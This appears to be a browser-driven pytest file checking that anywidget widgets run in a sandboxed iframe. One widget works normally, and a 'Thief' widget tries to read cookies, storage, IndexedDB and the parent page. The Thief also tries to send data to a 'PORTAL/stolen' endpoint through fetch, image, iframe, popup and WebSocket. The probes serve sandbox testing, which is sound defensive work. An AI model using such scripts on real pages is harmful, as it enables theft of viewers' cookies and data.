"""Widgets that bring their own script: they work, in a frame from which nothing of the viewer's can be reached."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.appserver.conftest import with_apps
from tests.appserver.portal import Portal
from tests.appserver.site import APP, OTHER, Hardened
from tests.appserver.test_page import come_from_portal

pytestmark = pytest.mark.browser

COUNTER = '''
import anywidget, traitlets
import ipywidgets as w
from IPython.display import display
class Counter(anywidget.AnyWidget):
    _esm = """
    export default {
      render({ model, el }) {
        const button = document.createElement('button');
        button.className = 'counting';
        const show = () => { button.textContent = 'count ' + model.get('count'); };
        button.onclick = () => { model.set('count', model.get('count') + 1); model.save_changes(); };
        model.on('change:count', show);
        model.on('msg:custom', (content, [first]) => el.append(content.text + first.getUint8(0)));
        show(); el.append(button);
      }
    };
    """
    _css = ".counting { color: rgb(1, 2, 3); }"
    count = traitlets.Int(3).tag(sync=True)
counter, heard = Counter(), w.Label("heard nothing")
counter.observe(lambda change: setattr(heard, "value", f"heard {change.new}"), "count")
double = w.Button(description="Double")
double.on_click(lambda _: setattr(counter, "count", counter.count * 2))
speak = w.Button(description="Speak")
speak.on_click(lambda _: counter.send({"text": "a word "}, [b"\\x07"]))
display(counter, heard, double, speak)
'''

THIEF = '''
import anywidget, traitlets
from IPython.display import display
class Thief(anywidget.AnyWidget):
    _esm = """
    const within = (make, milliseconds) => new Promise((ok, no) => { make(ok, no); setTimeout(no, milliseconds); });
    const address = path => new URL(path, document.baseURI).href.replace('http', 'ws');
    const tries = {
      cookie: async () => document.cookie || Promise.reject(),
      storage: async () => { localStorage.setItem('x', '1'); },
      database: () => within((ok, no) => { const o = indexedDB.open('x'); o.onsuccess = ok; o.onerror = no; }, 500),
      parent: async () => parent.document.title,
      top: async () => top.location.href.length,
      page: async () => { const a = await fetch('/'); if (!a.ok) throw 0; },
      health: async () => { const a = await fetch('/healthz'); if (!a.ok) throw 0; },
      portal: () => fetch('PORTAL/stolen', {method: 'POST', mode: 'no-cors', body: 'x'}),
      image: () => within((ok, no) => {
        const i = new Image(); i.onload = ok; i.onerror = no; i.src = 'PORTAL/stolen';
      }, 500),
      socket: () => within((ok, no) => {
        const s = new WebSocket(address('/healthz')); s.onopen = ok; s.onerror = no;
      }, 500),
      frame: () => within(() => {
        const f = document.createElement('iframe'); f.src = 'PORTAL/stolen'; document.body.append(f);
      }, 500),
      window: async () => { if (!open('PORTAL/stolen')) throw 0; },
    };
    export async function render({ model, el }) {
      const done = [];
      for (const [name, act] of Object.entries(tries)) { try { await act(); done.push(name); } catch (e) { } }
      model.set('done', done); model.save_changes();
      el.textContent = 'tried everything: ' + done.join(' ');
    }
    """.replace("PORTAL", "%s")
    done = traitlets.List().tag(sync=True)
display(Thief())
'''


@pytest.fixture(scope="module")
def framed(side_by_side: Hardened, portal_server: Portal) -> Hardened:
    return with_apps(side_by_side, portal_server, {APP: (COUNTER,), OTHER: (THIEF,)})


def test_a_widget_with_its_own_script_works_both_ways(page: Any, framed: Hardened, portal_server: Portal) -> None:
    come_from_portal(page, framed, portal_server)
    inside = page.frame_locator("iframe.sb-frame")
    inside.get_by_text("count 3").wait_for()
    assert inside.locator(".counting").evaluate("e => getComputedStyle(e).color") == "rgb(1, 2, 3)"
    inside.locator(".counting").click()
    page.get_by_text("heard 4").wait_for()
    page.get_by_role("button", name="Double").click()
    inside.get_by_text("count 8").wait_for()
    page.get_by_role("button", name="Speak").click()
    inside.get_by_text("a word 7").wait_for()
    assert page.locator("iframe.sb-frame").evaluate("f => f.offsetHeight") > 10
    assert page.locator("iframe.sb-frame").get_attribute("title") == "Counter"


def test_its_script_reaches_nothing_of_the_viewers(page: Any, framed: Hardened, portal_server: Portal) -> None:
    portal_server.seen.clear()
    come_from_portal(page, framed, portal_server, OTHER)
    page.frame_locator("iframe.sb-frame").get_by_text("tried everything").wait_for()
    state = json.loads(page.evaluate("JSON.stringify([...sandboxApp.models.values()].map(m => m.get('done')))"))
    assert [done for done in state if done is not None] == [[]]
    page.wait_for_timeout(300)
    assert not [path for _, path, _ in portal_server.seen if path == "/stolen"]
